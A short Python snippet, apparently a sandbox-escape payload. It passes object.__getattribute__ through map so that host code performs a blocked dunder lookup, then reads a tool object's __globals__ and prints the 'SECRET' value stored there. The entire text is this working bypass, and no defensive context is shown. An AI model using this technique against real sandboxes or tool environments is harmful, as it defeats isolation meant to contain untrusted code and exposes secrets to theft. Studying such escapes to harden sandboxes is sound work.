# object.__getattribute__ handed to host code (map), which calls it with the name.
getter = object.__getattribute__
print(list(map(getter, [tool], ["__globals__"]))[0]["SECRET"])
